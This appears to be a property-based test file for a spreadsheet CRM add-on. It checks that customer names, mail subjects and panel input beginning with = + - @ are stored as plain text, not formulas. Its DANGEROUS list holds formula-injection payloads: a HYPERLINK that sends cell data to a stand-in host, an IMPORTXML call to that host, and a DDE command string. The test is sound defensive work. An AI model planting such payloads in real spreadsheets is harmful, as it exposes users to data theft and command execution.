// Text that comes from outside (customer names, mail subjects, what someone types in the panel) and begins like a
// formula (= + - @) is stored as text: Gendan's writer escapes it, and the rows Gendan creates through the real
// bundle hold exactly the text, never a formula.
import fc from 'fast-check';
import type { Sandbox } from '../../src/sandbox/runtime';
import { SheetModel, type CellValue } from '../../src/sandbox/spreadsheet/model';
import { toCell } from '../../src/sandbox/spreadsheet/fakes';
import { parseInput } from '../../src/sandbox/spreadsheet/values';
import { escapeFormulaText, toCellValue } from '../../src/domain/ledgers/parse';
import { LEDGERS } from '../../src/domain/ledgers/index';
import type { ColumnDef } from '../../src/domain/ledgers/schema-types';
import { setUpWorkbook } from './crash-kit';

const FORMULA_START = ['=', '+', '-', '@'];
const DANGEROUS = [
  '=HYPERLINK("http://evil.example/steal?c="&A1,"Click for the invoice")',
  '=IMPORTXML("http://evil.example","//a")',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)',
  '-2+3',
  '@SUM(A1:A9)',
  '=1+1',
];

const formulaLike = fc.tuple(fc.constantFrom(...FORMULA_START), fc.string({ maxLength: 30 })).map(([p, s]) => p + s);

describe('escapeFormulaText', () => {
  it('makes every text beginning with = + - @ plain text for Sheets, and leaves it readable', () => {
    fc.assert(
      fc.property(formulaLike, (text) => {
        const escaped = escapeFormulaText(text);
        expect(escaped).toBe(`'${text}`);
        const stored = parseInput(escaped, 'en_US');
        expect(stored).toEqual({ value: text });
      }),
    );
  });

  it('leaves other text alone', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 30 }).filter((s) => !/^[=+\-@\t\r]/.test(s)), (text) => {
        expect(escapeFormulaText(text)).toBe(text);
      }),
    );
  });
});

describe("Gendan's cell writer (toCellValue) for every text column of every ledger", () => {
  const textColumns = Object.values(LEDGERS).flatMap((l) => (l.columns as readonly ColumnDef[]).filter((c) => c.type === 'text' && !c.kind));
  const ss = setUpWorkbook().env.spreadsheet;

  it('stores any text exactly as given: no formula, no number, no date', () => {
    fc.assert(
      fc.property(fc.constantFrom(...textColumns), fc.oneof(formulaLike, fc.constantFrom(...DANGEROUS), fc.string({ maxLength: 30 }), fc.constantFrom('007', '2026-03-02', 'TRUE', '3/4', '1,5', "'", "'007", "''quoted", ' -', ' +1x', '  =A1')), (col, text) => {
        const written = toCellValue(col, text, { timeZone: 'Asia/Shanghai', lang: 'en' });
        // A cell already formatted as plain text ("@") takes a string as it is; the writer's apostrophe is for the
        // cells Sheets would otherwise interpret.
        const stored = toCell(written, ss, false);
        expect(stored.formula).toBeUndefined();
        expect(stored.value).toBe(text);
      }),
    );
  });
});

/** Cells of rows Gendan appended to a sheet: rows after `from`. */
function rowsAfter(sb: Sandbox, name: string, from: number): { row: number; cells: CellValue[] }[] {
  const s = sb.env.spreadsheet.sheetByName(name);
  if (!s) throw new Error(`no sheet ${name}`);
  const out: { row: number; cells: CellValue[] }[] = [];
  for (let r = from + 1; r <= s.lastRow(); r++) out.push({ row: r, cells: s.values[r - 1] ?? [] });
  return out;
}

function col(sb: Sandbox, name: string, header: string): number {
  const s = sb.env.spreadsheet.sheetByName(name);
  const i = (s?.values[0] ?? []).indexOf(header);
  if (i < 0) throw new Error(`no column ${header} in ${name}`);
  return i + 1;
}

/** Asserts the cell holds exactly `text`, as a value and without a formula. */
function expectText(sb: Sandbox, name: string, row: number, header: string, text: string): void {
  const s = sb.env.spreadsheet.sheetByName(name) as SheetModel;
  const c = col(sb, name, header);
  expect({ cell: `${name}!${header}${row}`, value: s.get(row, c), formula: s.formulas.get(SheetModel.key(row, c)) ?? null }).toEqual({ cell: `${name}!${header}${row}`, value: text, formula: null });
}

/** Puts outside text into the model as Sheets holds typed-in text (the apostrophe hides, the text stays). */
function setText(sb: Sandbox, name: string, row: number, header: string, text: string): void {
  const s = sb.env.spreadsheet.sheetByName(name) as SheetModel;
  s.set(row, col(sb, name, header), text);
}

/**
 * Every mail template's subject begins with the customer's name (and a "document" template is added, the mail that
 * sends a document): subjects then begin with outside text.
 */
function subjectsStartWithCustomer(sb: Sandbox): void {
  const t = sb.env.spreadsheet.sheetByName('Mail templates') as SheetModel;
  const c = col(sb, 'Mail templates', 'Subject');
  for (let r = 2; r <= t.lastRow(); r++) t.set(r, c, `{{customerName}} ${String(t.get(r, c))}`);
  const row = t.lastRow() + 1;
  t.set(row, col(sb, 'Mail templates', 'Template'), 'document');
  t.set(row, col(sb, 'Mail templates', 'Language'), 'en');
  t.set(row, c, '{{customerName}}: {{docName}} {{docNo}}');
  t.set(row, col(sb, 'Mail templates', 'Body'), 'Dear {{contact}},\n\nplease find {{docName}} {{docNo}} attached.\n\n{{signature}}');
}

describe('rows Gendan creates from outside text, through the bundle', () => {
  it('the sweep copies a contact\'s next action that looks like a formula into a new follow-up as text', () => {
    const sb = setUpWorkbook();
    const contacts = sb.env.spreadsheet.sheetByName('Contact log') as SheetModel;
    const row = contacts.lastRow() + 1;
    const action = DANGEROUS[0];
    contacts.set(row, col(sb, 'Contact log', 'Date'), contacts.get(2, col(sb, 'Contact log', 'Date')));
    setText(sb, 'Contact log', row, 'Customer', 'C-0002');
    setText(sb, 'Contact log', row, 'Next action', action);
    setText(sb, 'Contact log', row, 'Owner', 'li.na@example.com');
    contacts.set(row, col(sb, 'Contact log', 'Due'), contacts.get(2, col(sb, 'Contact log', 'Date')));
    const last = (sb.env.spreadsheet.sheetByName('Follow-ups') as SheetModel).lastRow();
    sb.click('menuRefreshStatuses');
    const made = rowsAfter(sb, 'Follow-ups', last);
    expect(made).toHaveLength(1);
    expectText(sb, 'Follow-ups', made[0].row, 'Next action', action);
  });

  it(`a reminder run logs customer mails in the Contact log with customer names as text`, () => {
    const sb = setUpWorkbook();
    const customers = sb.env.spreadsheet.sheetByName('Customers') as SheetModel;
    const names = new Map<string, string>();
    for (let r = 2; r <= customers.lastRow(); r++) {
      const name = `${DANGEROUS[(r - 2) % DANGEROUS.length]} ${r}`;
      setText(sb, 'Customers', r, 'Customer name', name);
      names.set(String(customers.get(r, col(sb, 'Customers', 'Customer ID'))), name);
    }
    subjectsStartWithCustomer(sb);
    const last = (sb.env.spreadsheet.sheetByName('Contact log') as SheetModel).lastRow();
    sb.click('menuRemindersRun');
    const logged = rowsAfter(sb, 'Contact log', last);
    expect(logged.length).toBeGreaterThan(0);
    const customerCol = col(sb, 'Contact log', 'Customer');
    const topicCol = col(sb, 'Contact log', 'Topic');
    for (const { row, cells } of logged) {
      const name = String(cells[customerCol - 1]);
      expect([...names.values()]).toContain(name);
      expectText(sb, 'Contact log', row, 'Customer', name);
      const topic = String(cells[topicCol - 1]);
      expect(topic.startsWith(name)).toBe(true);
      expectText(sb, 'Contact log', row, 'Topic', topic);
    }
  });

  it(`a contact logged from the panel keeps topic, feedback and next action as text`, () => {
    const sb = setUpWorkbook();
    const last = (sb.env.spreadsheet.sheetByName('Contact log') as SheetModel).lastRow();
    const lastFu = (sb.env.spreadsheet.sheetByName('Follow-ups') as SheetModel).lastRow();
    sb.rpc('sidebarLogContact', [{ customerId: 'C-0002', channel: 'phone', topic: DANGEROUS[1], feedback: DANGEROUS[3], nextAction: DANGEROUS[2], owner: 'li.na@example.com', due: '2026-03-09' }]);
    const logged = rowsAfter(sb, 'Contact log', last);
    expect(logged).toHaveLength(1);
    expectText(sb, 'Contact log', logged[0].row, 'Topic', DANGEROUS[1]);
    expectText(sb, 'Contact log', logged[0].row, 'Customer needs / feedback', DANGEROUS[3]);
    expectText(sb, 'Contact log', logged[0].row, 'Next action', DANGEROUS[2]);
    const followUps = rowsAfter(sb, 'Follow-ups', lastFu);
    expect(followUps).toHaveLength(1);
    expectText(sb, 'Follow-ups', followUps[0].row, 'Next action', DANGEROUS[2]);
  });

  it(`emailing a document logs the customer's contact and the mail subject as text`, () => {
    const sb = setUpWorkbook();
    const orders = sb.env.spreadsheet.sheetByName('Orders') as SheetModel;
    const orderRow = orders.values.findIndex((r) => r[0] === 'SO-2026-9001') + 1;
    const customerId = String(orders.get(orderRow, col(sb, 'Orders', 'Customer')));
    const customers = sb.env.spreadsheet.sheetByName('Customers') as SheetModel;
    const customerRow = customers.values.findIndex((r) => r[0] === customerId) + 1;
    setText(sb, 'Customers', customerRow, 'Contact', DANGEROUS[2]);
    setText(sb, 'Customers', customerRow, 'Title', DANGEROUS[5]);
    setText(sb, 'Customers', customerRow, 'Customer name', DANGEROUS[0]);
    subjectsStartWithCustomer(sb);
    sb.select(`Orders!A${orderRow}`);
    sb.click('menuGenerateContract');
    const last = (sb.env.spreadsheet.sheetByName('Contact log') as SheetModel).lastRow();
    sb.click('menuEmailDocument');
    const logged = rowsAfter(sb, 'Contact log', last);
    expect(logged).toHaveLength(1);
    const participants = String(logged[0].cells[col(sb, 'Contact log', 'Customer participants') - 1]);
    expect(participants.startsWith(DANGEROUS[2])).toBe(true);
    expectText(sb, 'Contact log', logged[0].row, 'Customer participants', participants);
    const topic = String(logged[0].cells[col(sb, 'Contact log', 'Topic') - 1]);
    expect({ topic }).toEqual({ topic: expect.stringMatching(/^=HYPERLINK/) });
    expectText(sb, 'Contact log', logged[0].row, 'Topic', topic);
  });
});
